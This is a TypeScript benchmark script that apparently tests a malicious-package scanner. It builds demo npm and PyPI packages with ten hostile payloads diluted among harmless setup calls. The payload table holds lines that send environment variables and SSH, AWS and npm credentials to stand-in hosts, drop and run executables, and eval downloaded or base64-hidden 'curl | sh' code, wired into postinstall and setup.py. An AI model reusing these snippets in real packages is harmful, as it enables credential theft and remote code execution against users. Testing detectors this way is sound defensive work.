/**
 * Scores of harmless payloads among honest behaviours: dilution factor × place × unit.
 *
 *   node dist/test/bench/dilution.js [FACTORS, default 0,10,100,1000,10000] [WINDOW]
 *
 * Ten payloads of different kinds, five an ecosystem, each in a script of so many honest calls (front, middle, end), and as
 * an entry of its own beside such a script (other). Prints for each the score, `!` where the verdict is block and `?` where
 * it is unverified, then how many of the ten are caught. WINDOW: cuts units into windows of so many
 * tokens in place of the model's own length, to tell what the model cannot see from what it does not know; then only
 * scores are printed.
 */
import process from 'node:process';
import { openArtifact } from '../../lib/artifact/open.js';
import { buildSequence } from '../../lib/behavior/sequence.js';
import { unitTokens } from '../../lib/behavior/tokens.js';
import { distinctLogOdds } from '../../lib/classifier/classify.js';
import { packageLogOdds, sigmoid } from '../../lib/classifier/score.js';
import { openModel } from '../../lib/classifier/session.js';
import { cutWindows } from '../../lib/classifier/tokenizer.js';
import { createScanner } from '../../lib/scan.js';
import type { ScanInput } from '../../lib/types.js';
import { npmPackage, sdist } from '../artifact/build.js';

interface Payload {
  readonly kind: string;
  readonly language: 'javascript' | 'python';
  readonly code: string;
}
const JAVASCRIPT: readonly [kind: string, code: string][] = [
  [
    'environment sent',
    "const https = require('https'); const r = https.request({ hostname: 'collect.example.invalid', method: 'POST' }); r.write(Buffer.from(JSON.stringify(process.env)).toString('base64')); r.end();",
  ],
  [
    'dropper',
    "require('https').get('https://files.example.invalid/u.exe', (s) => { const t = os.tmpdir() + '/u.exe'; const o = fs.createWriteStream(t); s.pipe(o); o.on('finish', () => { fs.chmodSync(t, 0o755); require('child_process').spawn(t, [], { detached: true, stdio: 'ignore' }).unref(); }); });",
  ],
  [
    'keys and tokens sent',
    "const f = {}; for (const n of ['.npmrc', '.ssh/id_rsa', '.aws/credentials']) { try { f[n] = fs.readFileSync(path.join(os.homedir(), n), 'utf8'); } catch {} } const q = require('https').request('https://hooks.example.invalid/api', { method: 'POST' }); q.write(JSON.stringify(f)); q.end();",
  ],
  [
    'decoded code evaluated',
    `eval(Buffer.from('${Buffer.from("require('child_process').exec('curl https://x.example.invalid/p | sh')").toString('base64')}', 'base64').toString());`,
  ],
  [
    'inline downloader',
    "require('https').get('https://x.example.invalid/p.js', (r) => { let d = ''; r.on('data', (c) => { d += c; }); r.on('end', () => eval(d)); });",
  ],
];
const PYTHON: readonly [kind: string, code: string][] = [
  [
    'environment sent',
    "import urllib.request, base64\nurllib.request.urlopen('https://collect.example.invalid/x', base64.b64encode(json.dumps(dict(os.environ)).encode()))",
  ],
  [
    'dropper',
    "import urllib.request, subprocess\nurllib.request.urlretrieve('https://files.example.invalid/u.exe', '/tmp/u.exe')\nos.chmod('/tmp/u.exe', 0o755)\nsubprocess.Popen(['/tmp/u.exe'])",
  ],
  [
    'keys and tokens sent',
    "import requests\nrequests.post('https://hooks.example.invalid/api', data={n: open(os.path.expanduser('~/' + n)).read() for n in ['.ssh/id_rsa', '.aws/credentials']})",
  ],
  [
    'decoded code evaluated',
    `import base64\nexec(base64.b64decode('${Buffer.from("import os; os.system('curl https://x.example.invalid/p | sh')").toString('base64')}'))`,
  ],
  [
    'inline downloader',
    "import urllib.request\nexec(urllib.request.urlopen('https://x.example.invalid/p.py').read())",
  ],
];
const PAYLOADS: readonly Payload[] = [
  ...JAVASCRIPT.map(([kind, code]): Payload => ({ kind, language: 'javascript', code })),
  ...PYTHON.map(([kind, code]): Payload => ({ kind, language: 'python', code })),
];

/** Honest work of a setup script, so many calls of it, neighbours different. */
const WORK = {
  javascript: {
    head: "const fs = require('fs'); const os = require('os'); const path = require('path');\n",
    calls: [
      "fs.mkdirSync(path.join(__dirname, 'build'), { recursive: true });",
      "fs.existsSync(path.join(__dirname, 'package.json'));",
      "fs.readFileSync(path.join(__dirname, 'package.json'), 'utf8');",
      'os.platform();',
      "fs.writeFileSync(path.join(__dirname, 'build', 'out.txt'), 'x');",
      "fs.readdirSync(path.join(__dirname, 'build'));",
      "fs.unlinkSync(path.join(__dirname, 'build', 'out.txt'));",
    ],
  },
  python: {
    head: 'import os, json, platform, shutil\n',
    calls: [
      "os.makedirs('build', exist_ok=True)",
      "open('README.md').read()",
      'platform.system()',
      "open('build/out.txt', 'w').write('x')",
      "os.listdir('build')",
      "shutil.copy('build/out.txt', 'build/b.txt')",
      "os.remove('build/out.txt')",
    ],
  },
} as const;
const PLACES = ['front', 'middle', 'end', 'other'] as const;
type Place = (typeof PLACES)[number];

function work(language: Payload['language'], count: number): string {
  const { calls } = WORK[language];
  return Array.from({ length: count }, (_, i) => calls[i % calls.length]).join('\n');
}

function packed({ language, code }: Payload, factor: number, place: Place): ScanInput {
  const { head } = WORK[language];
  const own = language === 'javascript' ? `{ ${code} }` : code;
  const before = place === 'front' || place === 'other' ? 0 : place === 'end' ? factor : factor >> 1;
  const script =
    place === 'other'
      ? head + work(language, factor)
      : `${head}${work(language, before)}\n${own}\n${work(language, factor - before)}\n`;
  const other = place === 'other' ? head + own : '';
  if (language === 'javascript') {
    const manifest = {
      name: 'demo',
      version: '1.0.0',
      main: 'index.js',
      scripts: { postinstall: 'node setup.js' },
    };
    const files = { 'package.json': JSON.stringify(manifest), 'setup.js': script, 'index.js': other };
    return { ecosystem: 'npm', filename: 'demo-1.0.0.tgz', bytes: npmPackage(files) };
  }
  const files = {
    'PKG-INFO': 'Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n',
    'setup.py': `from setuptools import setup\n${script}\nsetup(name='demo', version='1.0', packages=['demo'])\n`,
    'demo/__init__.py': other,
  };
  return { ecosystem: 'pypi', filename: 'demo-1.0.tar.gz', bytes: sdist(files) };
}

type Judge = (input: ScanInput) => Promise<{ readonly cell: string; readonly caught: boolean }>;

const [factors = '0,10,100,1000,10000', window] = process.argv.slice(2);
const scanner = await createScanner({ threads: 1 });
const judge = window === undefined ? judgeWhole : await judgeCut(Number(window));
process.stdout.write(
  `| payload | place | ${factors.split(',').join(' | ')} |\n|---|---|${'---|'.repeat(factors.split(',').length)}\n`,
);
const caught = new Map<string, number>();
for (const payload of PAYLOADS) {
  for (const place of PLACES) {
    const cells: string[] = [];
    for (const factor of factors.split(',').map(Number)) {
      const result = await judge(packed(payload, factor, place));
      cells.push(result.cell);
      const key = `${place} ${factor}`;
      caught.set(key, (caught.get(key) ?? 0) + Number(result.caught));
    }
    process.stdout.write(`| ${payload.language}: ${payload.kind} | ${place} | ${cells.join(' | ')} |\n`);
  }
}
for (const place of PLACES) {
  const cells = factors
    .split(',')
    .map((factor) => `${caught.get(`${place} ${factor}`)} of ${PAYLOADS.length}`);
  process.stdout.write(`| caught | ${place} | ${cells.join(' | ')} |\n`);
}
await scanner.close();

async function judgeWhole(input: ScanInput): ReturnType<Judge> {
  const { verdict, score = 0 } = await scanner.scan(input);
  const mark = verdict === 'block' ? '!' : verdict === 'unverified' ? '?' : '';
  return { cell: `${score.toFixed(2)}${mark}`, caught: verdict !== 'allow' };
}

async function judgeCut(maxTokens: number): Promise<Judge> {
  const { config, vocabulary, run } = await openModel();
  return async (input) => {
    const sequence = await buildSequence(await openArtifact(input));
    const places = [];
    for (const unit of sequence.units.filter(({ behaviors }) => behaviors.length > 0)) {
      for (const window of cutWindows(unitTokens(unit), vocabulary, { maxTokens, overlap: maxTokens >> 1 }))
        places.push({ windows: [window], logOdds: await run(window.ids) });
    }
    const score = sigmoid(packageLogOdds(distinctLogOdds(places), input.ecosystem, config));
    return { cell: score.toFixed(2), caught: score >= config.threshold };
  };
}
